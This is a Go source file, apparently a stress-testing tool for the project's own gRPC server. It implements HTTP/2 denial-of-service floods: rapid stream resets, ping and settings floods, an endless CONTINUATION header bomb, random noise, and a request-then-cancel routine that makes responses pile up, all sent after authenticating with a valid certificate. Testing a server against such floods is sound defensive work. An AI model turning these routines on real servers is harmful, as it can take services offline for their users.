package main

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"net"
	"time"
)

// Types and flags of HTTP/2 frames.
const (
	data, headers, rst, settings, ping, window, continuation = 0, 1, 3, 4, 6, 8, 9
	endStream, endHeaders                                    = 1, 4
)

// frame appends a frame of HTTP/2.
func frame(b []byte, typ, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	b = append(b, byte(n>>16), byte(n>>8), byte(n), typ, flags)
	b = binary.BigEndian.AppendUint32(b, stream)
	return append(b, payload...)
}

// hello is how a client of HTTP/2 begins.
func hello() []byte {
	return frame([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), settings, 0, 0, nil)
}

// field appends a header field that is in no table.
func field(b []byte, name, value string) []byte {
	b = append(b, 0, byte(len(name)))
	b = append(b, name...)
	b = append(b, byte(len(value)))
	return append(b, value...)
}

// request is the headers of a call.
func request(method string) []byte {
	var b []byte
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", "/verdecmd.v1.Link/" + method}, {":authority", "x"},
		{"content-type", "application/grpc"}, {"te", "trailers"}} {
		b = field(b, f[0], f[1])
	}
	return b
}

// asSatellite shows a good certificate and begins with HTTP/2.
func asSatellite(ctx context.Context, f *flood, c net.Conn, read bool) (net.Conn, error) {
	if f.id.own == nil {
		return nil, errors.New("needs -pki")
	}
	t, err := shake(ctx, c, *f.id.own)
	if err != nil {
		return nil, err
	}
	if _, err := t.Write(hello()); err != nil {
		return nil, err
	}
	if read {
		go drain(t)
	}
	return t, nil
}

func idle(ctx context.Context, f *flood, c net.Conn) error {
	t, err := asSatellite(ctx, f, c, false)
	if err != nil {
		return err
	}
	return drain(t)
}

// repeat sends what next makes until it is stopped. next gets a new stream's
// number each time.
func repeat(ctx context.Context, f *flood, c net.Conn, read bool, next func(b []byte, stream uint32) []byte) error {
	t, err := asSatellite(ctx, f, c, read)
	if err != nil {
		return err
	}
	var b []byte
	for stream := uint32(1); stream < 1<<31-2; {
		for b = b[:0]; len(b) < 16<<10; stream += 2 {
			b = next(b, stream)
		}
		if _, err := t.Write(b); err != nil {
			return err
		}
	}
	return nil
}

func noise(ctx context.Context, f *flood, c net.Conn) error {
	random := make([]byte, 16<<10)
	rand.Read(random)
	return repeat(ctx, f, c, true, func(b []byte, _ uint32) []byte { return append(b, random...) })
}

func reset(ctx context.Context, f *flood, c net.Conn) error {
	h := request("Refer")
	return repeat(ctx, f, c, true, func(b []byte, stream uint32) []byte {
		return frame(frame(b, headers, endHeaders, stream, h), rst, 0, stream, []byte{0, 0, 0, 8})
	})
}

func pings(ctx context.Context, f *flood, c net.Conn) error {
	return repeat(ctx, f, c, false, func(b []byte, _ uint32) []byte { return frame(b, ping, 0, 0, make([]byte, 8)) })
}

func changes(ctx context.Context, f *flood, c net.Conn) error {
	return repeat(ctx, f, c, false, func(b []byte, _ uint32) []byte { return frame(b, settings, 0, 0, nil) })
}

func bomb(ctx context.Context, f *flood, c net.Conn) error {
	more := field(nil, "x-bomb", string(make([]byte, 100)))
	for len(more) < 15<<10 {
		more = append(more, more...)
	}
	more = more[:150*109] // whole fields, and less than a frame may hold
	first := true
	return repeat(ctx, f, c, true, func(b []byte, _ uint32) []byte {
		if first {
			first = false
			return frame(b, headers, 0, 1, request("Refer"))
		}
		return frame(b, continuation, 0, 1, more)
	})
}

// unread asks without a pause, and takes each question back a moment later, so
// that the next are admitted; the answers pile up unless somebody stops it.
func unread(ctx context.Context, f *flood, c net.Conn) error {
	t, err := asSatellite(ctx, f, c, false)
	if err != nil {
		return err
	}
	h := request("Refer")
	for stream := uint32(1); stream < 1<<31-200; {
		var b, back []byte
		for range 32 {
			b = frame(frame(b, headers, endHeaders, stream, h), data, endStream, stream, make([]byte, 5))
			back = frame(back, rst, 0, stream, []byte{0, 0, 0, 8})
			stream += 2
		}
		if _, err := t.Write(b); err != nil {
			return err
		}
		select {
		case <-ctx.Done():
			return nil
		case <-time.After(2 * time.Millisecond):
		}
		if _, err := t.Write(back); err != nil {
			return err
		}
	}
	return nil
}
